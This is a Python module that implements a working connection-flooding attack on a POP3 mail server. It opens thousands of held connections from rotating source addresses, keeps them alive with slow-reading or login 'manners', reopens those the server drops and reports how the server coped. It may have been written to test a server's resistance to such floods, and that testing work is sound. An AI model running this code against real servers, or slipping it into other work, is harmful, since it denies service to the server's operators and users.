"""The attack: opens connections, holds them, and counts what the server makes of them.

`python3 -m flooding.attack PLAN`, with PLAN the fields of Plan as JSON; SIGTERM ends it before its time. Prints one
line of JSON: how many connections were tried, how many were greeted at once at most, and how many came to which end.
"""

import collections
import dataclasses
import errno
import heapq
import itertools
import json
import selectors
import signal
import socket
import sys
import time

from .manners import MANNERS

AT_ONCE = 64  # connections begun before the server's answers are looked at
IP_BIND_ADDRESS_NO_PORT = 24

# What became of connections by what they had come to.
ENDED_BY_SERVER = {"unconnected": "unconnected", "waiting": "dropped without a word", "refused": "refused with a reply",
                   "greeted": "ended without a word", "sent away": "ended with a word"}


@dataclasses.dataclass(frozen=True)
class Plan:
    """What is to be done."""

    target: str
    sources: list  # addresses that connections come from, in turn
    manner: str = "silent"  # one of MANNERS
    port: int = 110
    connections: int = 2000  # at once, at the beginning
    rate: float = 20  # more in each second after that
    seconds: float = 30
    insists: float = 0  # seconds after the server ended one until it is tried again from the same address; 0: never
    user: str = ""  # slow readers log in as this name and a number …
    users: int = 0  # … below this
    password: str = ""


class Connection:
    """One connection of the attack."""

    def __init__(self, plan, number, source):
        self.source = source
        self.manner = MANNERS[plan.manner](plan, number)
        self.state = "unconnected"
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.socket.setblocking(False)
        if self.manner.RECEIVE_BUFFER:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.manner.RECEIVE_BUFFER)
        self.socket.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        self.socket.bind((source, 0))
        result = self.socket.connect_ex((plan.target, plan.port))
        if result not in (0, errno.EINPROGRESS):
            raise OSError(result, "connect")


class Attack:
    """All of them."""

    def __init__(self, plan):
        self._plan = plan
        self._selector = selectors.DefaultSelector()
        self._due = []  # (when, number, what)
        self._numbers = itertools.count()
        self._tried = 0
        self._live = set()
        self._greeted = self._most_greeted = 0
        self._ended = collections.Counter()
        self._is_over = False

    def run(self):
        """Attacks for as long as the plan says; returns what came of it."""
        plan = self._plan
        over = time.monotonic() + plan.seconds
        for number in range(plan.connections):
            self._open(plan.sources[number % len(plan.sources)])
            if number % AT_ONCE == 0:
                self._serve(0)
        if plan.rate:
            self._later(1 / plan.rate, self._open_one_more)
        while not self._is_over and (now := time.monotonic()) < over:
            self._serve(max(0, min(self._due[0][0] if self._due else over, over, now + 0.1) - now))
        held = collections.Counter(f"{connection.state} to the end" for connection in self._live)
        return {"tried": self._tried, "most greeted": self._most_greeted, "ends": self._ended + held}

    def stop(self, *_):
        """Ends it soon."""
        self._is_over = True

    def _open_one_more(self):
        sources = self._plan.sources
        self._open(sources[self._tried % len(sources)])
        self._later(1 / self._plan.rate, self._open_one_more)

    def _open(self, source):
        self._tried += 1
        try:
            connection = Connection(self._plan, self._tried - 1, source)
        except OSError as error:
            self._ended[f"unconnected ({error})"] += 1
            return
        self._live.add(connection)
        self._selector.register(connection.socket, selectors.EVENT_WRITE, connection)

    def _later(self, seconds, what):
        heapq.heappush(self._due, (time.monotonic() + seconds, next(self._numbers), what))

    def _serve(self, timeout):
        """Does what has to be done within this time."""
        for key, _ in self._selector.select(timeout):
            self._try(key.data, self._hear)
        while self._due and self._due[0][0] <= time.monotonic():
            heapq.heappop(self._due)[2]()

    def _try(self, connection, act):
        try:
            act(connection)
        except BlockingIOError:
            pass
        except OSError:
            self._end(connection)

    def _hear(self, connection):
        if connection.state == "unconnected":
            if number := connection.socket.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                raise OSError(number, "connect")
            connection.state = "waiting"
            self._selector.modify(connection.socket, selectors.EVENT_READ, connection)
            return
        octets = connection.socket.recv(65536)
        if not octets:
            raise ConnectionResetError
        if connection.state == "waiting" and octets.startswith(b"+OK"):
            self._be_greeted(connection)
        elif octets.startswith(b"-ERR"):
            connection.state = "refused" if connection.state == "waiting" else "sent away"
        if not connection.manner.goes_on_listening(connection.socket, octets):
            self._selector.unregister(connection.socket)

    def _be_greeted(self, connection):
        connection.state = "greeted"
        self._greeted += 1
        self._most_greeted = max(self._most_greeted, self._greeted)

        def act():
            if connection in self._live:
                self._try(connection, lambda connection: connection.manner.act(connection.socket))
                self._later(connection.manner.PAUSE, act)

        if connection.manner.PAUSE:
            self._later(connection.manner.PAUSE, act)

    def _end(self, connection):
        self._ended[ENDED_BY_SERVER[connection.state]] += 1
        self._greeted -= connection.state in ("greeted", "sent away")
        self._live.discard(connection)
        if connection.socket in self._selector.get_map():
            self._selector.unregister(connection.socket)
        connection.socket.close()
        if self._plan.insists:
            self._later(self._plan.insists, lambda: self._open(connection.source))


if __name__ == "__main__":
    attack = Attack(Plan(**json.loads(sys.argv[1])))
    signal.signal(signal.SIGTERM, attack.stop)
    print(json.dumps(attack.run()))
